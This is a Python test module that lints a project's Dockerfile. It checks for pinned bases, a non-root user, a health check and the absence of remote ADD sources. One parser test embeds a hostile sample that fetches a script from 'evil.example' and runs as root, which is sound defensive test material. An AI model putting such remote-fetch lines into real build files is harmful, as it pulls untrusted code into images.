"""The Dockerfile, linted by parsing it (no base image can be pulled here to build it)."""

from __future__ import annotations

import fnmatch
import json
import re
import tomllib
from dataclasses import dataclass, field
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]


@dataclass
class Stage:
    """One build stage: its base, name and instructions (keyword, arguments)."""

    base: str
    name: str | None
    instructions: list[tuple[str, str]] = field(default_factory=list)

    def all(self, keyword: str) -> list[str]:
        return [args for kw, args in self.instructions if kw == keyword]


def parse(text: str) -> tuple[dict[str, str], list[Stage]]:
    """Instructions with continuations joined and comments dropped; global ARGs and stages."""
    lines: list[str] = []
    pending = ""
    for raw in text.splitlines():
        stripped = raw.strip()
        if not pending and (not stripped or stripped.startswith("#")):
            continue
        if pending and stripped.startswith("#"):
            continue
        if stripped.endswith("\\"):
            pending += stripped[:-1].rstrip() + " "
            continue
        lines.append(pending + stripped)
        pending = ""
    assert not pending, "a continuation runs off the end of the file"
    args: dict[str, str] = {}
    stages: list[Stage] = []
    for line in lines:
        keyword, _, rest = line.partition(" ")
        keyword, rest = keyword.upper(), rest.strip()
        if keyword == "FROM":
            parts = rest.split()
            base = parts[0]
            for name, value in args.items():
                base = base.replace("${" + name + "}", value).replace("$" + name, value)
            stage = parts[2] if len(parts) == 3 and parts[1].upper() == "AS" else None
            stages.append(Stage(base, stage))
        elif not stages:
            assert keyword == "ARG", f"{keyword} before the first FROM"
            key, _, value = rest.partition("=")
            args[key] = value
        else:
            stages[-1].instructions.append((keyword, rest))
    return args, stages


@pytest.fixture(scope="module")
def dockerfile() -> tuple[dict[str, str], list[Stage]]:
    return parse((REPO / "Dockerfile").read_text())


def test_multi_stage_on_pinned_bases(dockerfile) -> None:
    _, stages = dockerfile
    assert len(stages) >= 2
    names = [s.name for s in stages]
    assert all(names) and len(set(names)) == len(names)
    for stage in stages:
        image, _, tag = stage.base.rpartition(":")
        assert image and tag and tag != "latest", stage.base
    final = stages[-1]
    earlier = set(names[:-1])
    froms = [re.search(r"--from=(\S+)", c) for c in final.all("COPY")]
    assert {m.group(1) for m in froms if m} <= earlier
    assert not final.all("RUN") or all("pip install" not in r for r in final.all("RUN"))


def test_runs_as_a_non_root_user_with_a_health_check(dockerfile) -> None:
    _, stages = dockerfile
    final = stages[-1]
    users = final.all("USER")
    assert users, "the final stage must switch user"
    user, _, group = users[-1].partition(":")
    assert user not in ("root", "0") and group not in ("root", "0")
    (check,) = final.all("HEALTHCHECK")
    assert "/healthz" in check and "CMD" in check
    assert re.search(r"--timeout=\d+s", check) and re.search(r"--interval=\d+s", check)
    assert json.loads(final.all("ENTRYPOINT")[-1]) == ["shipdeck"]
    assert json.loads(final.all("CMD")[-1]) == ["serve"]
    assert "8000" in final.all("EXPOSE")[-1]


def test_no_remote_sources_and_nothing_unignored(dockerfile) -> None:
    _, stages = dockerfile
    for stage in stages:
        for add in stage.all("ADD"):
            assert not re.search(r"(https?|ftp|git)://|git@", add), add
    ignored = [
        p.strip()
        for p in (REPO / ".dockerignore").read_text().splitlines()
        if p.strip() and not p.startswith("#")
    ]
    for must in (".git", ".venv", "*.db", "tests"):
        assert must in ignored, must
    sources = []
    for stage in stages:
        for copy in stage.all("COPY"):
            if "--from=" in copy:
                continue
            *srcs, _dest = copy.split()
            sources += srcs
    for src in sources:
        assert (REPO / src).exists(), src
        assert not any(fnmatch.fnmatch(src, pattern) for pattern in ignored), src


def test_every_package_and_runtime_file_is_copied_in(dockerfile) -> None:
    """The packages pyproject installs, the prompts they load and the console assets."""
    _, stages = dockerfile
    copied = {
        src.rstrip("/")
        for copy in stages[0].all("COPY")
        for src in copy.split()[:-1]
        if not src.startswith("--")
    }
    project = tomllib.loads((REPO / "pyproject.toml").read_text())
    packages = project["tool"]["setuptools"]["packages"]["find"]["include"]
    assert {p.rstrip("*") for p in packages} <= copied
    assert {"prompts", "pyproject.toml", "README.md"} <= copied
    assert (REPO / "api" / "static" / "index.html").exists()  # the console, under api/


def test_parser_catches_what_the_lint_guards_against() -> None:
    """The lint is only as good as its parser: hostile files must parse as what they are."""
    _, stages = parse(
        "ARG B=python:3.11\nFROM ${B} AS one\nADD https://evil.example/x.sh /x \\\n"
        "  # a comment inside a continuation\n  /y\nUSER root\n"
    )
    assert stages[0].base == "python:3.11" and stages[0].name == "one"
    assert stages[0].all("ADD") == ["https://evil.example/x.sh /x /y"]
    assert stages[0].all("USER") == ["root"]
    with pytest.raises(AssertionError):
        parse("RUN echo before any FROM\n")
